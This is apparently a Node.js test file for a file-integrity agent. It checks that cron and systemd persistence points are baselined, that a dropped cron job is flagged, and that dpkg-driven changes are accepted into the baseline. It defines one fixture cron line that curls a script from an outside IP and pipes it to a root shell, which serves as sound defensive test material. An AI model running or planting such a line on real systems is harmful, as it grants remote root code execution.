// The agent and the persistence points, as a real process on a fixture system: the first start
// records the baseline (no alerts), a dropped cron job is a finding with source baseline, what a
// dpkg run changed is accepted and reported once as baseline.updated, `[persist] enabled = false`
// checks nothing.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { appendFileSync, existsSync } from 'node:fs';
import path from 'node:path';
import { runCli } from '../helpers/cli.js';
import {
  agentFixture,
  APP_FILE,
  EVERY_2S,
  isAlert,
  isKind,
  isRunFinished,
  startAgent,
  YEARLY,
  type AlertLine,
  type LogLine,
  type RunFinishedLine,
} from '../helpers/agent.js';

const EVIL = '* * * * * root curl -s http://203.0.113.9/x | sh\n';
const UNIT = '[Service]\nExecStart=/usr/sbin/x\n';

/** `2026-12-06 23:55:06` in local time, as dpkg writes its log. */
function dpkgLogTime(d: Date): string {
  const p = (v: number): string => String(v).padStart(2, '0');
  return `${d.getFullYear()}-${p(d.getMonth() + 1)}-${p(d.getDate())} ${p(d.getHours())}:${p(d.getMinutes())}:${p(d.getSeconds())}`;
}

test('agent: the first start records the baseline; a cron job dropped later is findings.opened with source baseline, even with no scoped package', async (t) => {
  const { fx, stateDir } = agentFixture(t);
  fx.write('/etc/cron.d/backup', '0 3 * * * root /usr/local/sbin/backup\n');
  // Full checks every 2 s too: they must neither report nor resolve the points' findings.
  const agent = await startAgent({ t, fx, stateDir, config: { schedule: { scoped: EVERY_2S, full: EVERY_2S }, watch: { enabled: false } } });
  const created = await agent.waitFor<LogLine & { entries: number }>('baseline.created', isKind('baseline.created'));
  assert.equal(created.line.entries, 2, `/etc/cron.d and its backup file\n${agent.transcript()}`);
  assert.ok(existsSync(path.join(stateDir, 'baseline.json')));
  const first = await agent.waitFor<RunFinishedLine>('the start-up scoped run', isRunFinished('scoped'), { from: created.index });
  assert.equal(first.line.outcome, 'clean', agent.transcript());

  fx.write('/etc/cron.d/evil', EVIL);
  const opened = await agent.waitFor<AlertLine>('findings.opened', isAlert('findings.opened'), { from: first.index });
  assert.deepEqual(
    opened.line.event.findings.map((f) => [f.package, f.path, f.status, f.source]),
    [['', '/etc/cron.d/evil', 'added', 'baseline']],
  );
  const full = await agent.waitFor<RunFinishedLine>('a full run', isRunFinished('full'), { from: opened.index + 1 });
  const later = await agent.waitFor<RunFinishedLine>('a scoped run after it', isRunFinished('scoped', 'findings'), { from: full.index + 1 });
  await agent.stop();
  assert.deepEqual(agent.alerts().map((a) => a.event.kind), ['findings.opened'], `one alert, not a storm at start, not one per run, not resolved by a full run\n${agent.transcript()}`);
  assert.equal(agent.find(isKind('baseline.created')).length, 1);
  assert.ok(later.index > full.index);
});

test('agent: a unit added during a dpkg run is accepted into the baseline, reported once as baseline.updated with the run\'s packages, never as a finding', async (t) => {
  const { fx, stateDir } = agentFixture(t);
  fx.write('/etc/systemd/system/old.service', UNIT);
  // A line of an older run: not this run's package.
  const dayAgo = dpkgLogTime(new Date(Date.now() - 86_400_000));
  fx.write('/var/log/dpkg.log', `${dayAgo} upgrade oldpkg:amd64 1.0 1.1\n`);
  const agent = await startAgent({ t, fx, stateDir, config: { scope: { packages: ['app'] }, schedule: { scoped: EVERY_2S, full: YEARLY }, watch: { enabled: false } } });
  await agent.waitFor('baseline.created', isKind('baseline.created'));
  const first = await agent.waitFor<RunFinishedLine>('the start-up scoped run', isRunFinished('scoped'));
  assert.equal(first.line.outcome, 'clean', agent.transcript());

  const marked = agent.mark();
  const start = await runCli(['notify', 'dpkg-start', '--config', agent.configFile]);
  assert.deepEqual([start.code, start.stderr], [0, '']);
  await agent.waitFor('dpkg.started', isKind('dpkg.started'), { from: marked });
  // What deb-systemd-helper and dpkg do: a unit appears, dpkg logs the package.
  fx.write('/etc/systemd/system/x.service', UNIT);
  appendFileSync(path.join(fx.root, 'var/log/dpkg.log'), `${dpkgLogTime(new Date())} install xpkg:amd64 <none> 1.0\n${dpkgLogTime(new Date())} status installed xpkg:amd64 1.0\n`);
  const ended = agent.mark();
  const end = await runCli(['notify', 'dpkg-end', '--config', agent.configFile]);
  assert.deepEqual([end.code, end.stderr], [0, '']);
  const finished = await agent.waitFor('dpkg.finished', isKind('dpkg.finished'), { from: ended });
  const updated = await agent.waitFor<AlertLine>('baseline.updated', isAlert('baseline.updated'), { from: finished.index });
  assert.deepEqual(updated.line.event.baseline, { by: 'dpkg', paths: ['/etc/systemd/system/x.service'], packages: ['xpkg:amd64'] });
  assert.deepEqual(updated.line.event.findings.map((f) => [f.path, f.status, f.source]), [['/etc/systemd/system/x.service', 'added', 'baseline']]);
  assert.equal(updated.line['priority'], 5, 'a notice, not a warning');
  const after = await agent.waitFor<RunFinishedLine>('the scoped run after dpkg', isRunFinished('scoped'), { from: updated.index });
  assert.equal(after.line.outcome, 'clean', agent.transcript());
  await agent.stop();
  assert.deepEqual(agent.alerts().map((a) => a.event.kind), ['baseline.updated'], agent.transcript());

  // The next start compares with the moved baseline: the unit is not a finding.
  const again = await startAgent({ t, fx, stateDir, config: { scope: { packages: ['app'] }, schedule: { scoped: YEARLY, full: YEARLY }, watch: { enabled: false } } });
  const run = await again.waitFor<RunFinishedLine>('the start-up scoped run', isRunFinished('scoped'));
  assert.equal(run.line.outcome, 'clean', again.transcript());
  await again.stop();
  assert.deepEqual(again.find(isKind('baseline.created')), []);
});

test('agent: [persist] enabled = false checks nothing: no baseline, a dropped cron job raises nothing', async (t) => {
  const { fx, stateDir } = agentFixture(t);
  const agent = await startAgent({ t, fx, stateDir, config: { scope: { packages: ['app'] }, schedule: { scoped: EVERY_2S, full: YEARLY }, watch: { enabled: false }, persist: { enabled: false } } });
  const first = await agent.waitFor<RunFinishedLine>('the start-up scoped run', isRunFinished('scoped'));
  assert.equal(first.line.outcome, 'clean', agent.transcript());
  fx.write('/etc/cron.d/evil', EVIL);
  // The marker: a tampered scoped file, found by a scoped run that also ran after the cron job.
  fx.write(APP_FILE, 'import os\n');
  const opened = await agent.waitFor<AlertLine>('findings.opened', isAlert('findings.opened'), { from: first.index });
  await agent.stop();
  assert.deepEqual(opened.line.event.findings.map((f) => f.path), [APP_FILE]);
  assert.deepEqual(agent.alerts().map((a) => a.event.kind), ['findings.opened'], agent.transcript());
  assert.deepEqual(agent.find(isKind('baseline.created')), []);
  assert.equal(existsSync(path.join(stateDir, 'baseline.json')), false);
});
